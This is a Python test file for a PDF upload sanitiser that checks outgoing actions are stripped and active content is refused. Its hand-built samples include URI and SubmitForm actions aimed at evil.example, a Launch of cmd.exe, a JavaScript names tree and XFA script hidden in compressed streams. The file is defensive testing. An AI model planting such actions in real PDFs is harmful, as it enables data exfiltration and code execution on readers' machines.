"""Finding 6 of the security review: outgoing actions in an uploaded PDF are stripped (links out, remote
documents, forms sent somewhere, /AA triggers, XFA), active content (scripts, launches, attachments,
rich media) is refused — wherever it sits: catalog, annotations, object streams, name trees."""
from __future__ import annotations

import io
import zlib
from pathlib import Path

import pikepdf
import pytest

from domain.documents import processing
from domain.documents.processing import UploadRejected, process_upload
from tests.domain.documents.pdfs import make_pdf

ANNOT = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>"


def hand_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF written by hand; extra objects are numbered from 4."""
    return make_pdf(1, catalog_extra, objects, page_extra=page_extra)


def stored(tmp_path: Path, data: bytes) -> pikepdf.Pdf:
    path = tmp_path / "in.pdf"
    path.write_bytes(data)
    result = process_upload(path)
    assert result.pages == 1 and result.content_type == "application/pdf"
    assert result.size == len(result.path.read_bytes())
    return pikepdf.open(io.BytesIO(result.path.read_bytes()))


def refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "in.pdf"
    path.write_bytes(data)
    with pytest.raises(UploadRejected) as err:
        process_upload(path)
    assert err.value.reason == "pdf_active_content"


def all_actions(pdf: pikepdf.Pdf) -> set[str]:
    kinds = set()
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Dictionary) and "/S" in obj:
            kinds.add(str(obj.S))
    return kinds


def test_open_action_uri_is_stripped(tmp_path: Path) -> None:
    pdf = stored(tmp_path, hand_pdf(b"/OpenAction << /S /URI /URI (https://evil.example/x) >>"))
    assert "/OpenAction" not in pdf.Root and b"evil.example" not in (tmp_path / "in.pdf").read_bytes()


def test_gotor_to_a_windows_share_is_stripped(tmp_path: Path) -> None:
    data = hand_pdf(b"/OpenAction 4 0 R", objects=(b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>",))
    pdf = stored(tmp_path, data)
    assert "/OpenAction" not in pdf.Root and "/GoToR" not in all_actions(pdf)


def test_link_annotations_lose_their_outgoing_action(tmp_path: Path) -> None:
    data = hand_pdf(page_extra=b"/Annots [4 0 R 5 0 R]", objects=(
        ANNOT % b"<< /S /URI /URI (https://evil.example/) >>",
        ANNOT % b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"))
    pdf = stored(tmp_path, data)
    assert all("/A" not in a for a in pdf.pages[0].Annots)
    assert not {"/URI", "/SubmitForm"} & all_actions(pdf)


def test_additional_actions_anywhere_and_chained_next_actions_go(tmp_path: Path) -> None:
    data = hand_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>",
                    page_extra=b"/AA << /O << /S /URI /URI (https://y.example) >> >>")
    pdf = stored(tmp_path, data)
    assert "/AA" not in pdf.pages[0] and str(pdf.Root.OpenAction.S) == "/GoTo"  # the harmless part stays
    assert "/Next" not in pdf.Root.OpenAction


def test_xfa_with_script_in_a_compressed_stream_is_stripped(tmp_path: Path) -> None:
    xfa = zlib.compress(b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>")
    data = hand_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=(
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(xfa) + xfa + b"\nendstream",))
    pdf = stored(tmp_path, data)
    assert "/XFA" not in pdf.Root.AcroForm


def test_outgoing_action_inside_an_object_stream_is_stripped(tmp_path: Path) -> None:
    src = pikepdf.new()
    src.add_blank_page()
    src.Root.OpenAction = src.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/"))
    buf = io.BytesIO()
    src.save(buf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"evil.example" not in buf.getvalue()  # hidden in a compressed object stream
    pdf = stored(tmp_path, buf.getvalue())
    assert "/OpenAction" not in pdf.Root and "/URI" not in all_actions(pdf)


def test_javascript_in_the_names_tree_and_attachments_stay_refused(tmp_path: Path) -> None:
    refused(tmp_path, hand_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
                               objects=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",)))
    refused(tmp_path, hand_pdf(page_extra=b"/Annots [4 0 R]", objects=(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /EF << /F 5 0 R >> >> >>",
        b"<< /Length 2 >>\nstream\nMZ\nendstream")))
    refused(tmp_path, hand_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"))


def test_a_pdf_with_nothing_to_strip_keeps_its_bytes(tmp_path: Path) -> None:
    data = hand_pdf(b"/OpenAction [3 0 R /Fit]")
    path = tmp_path / "in.pdf"
    path.write_bytes(data)
    assert process_upload(path).path.read_bytes() == data
    assert processing._strip_outgoing(path) is False
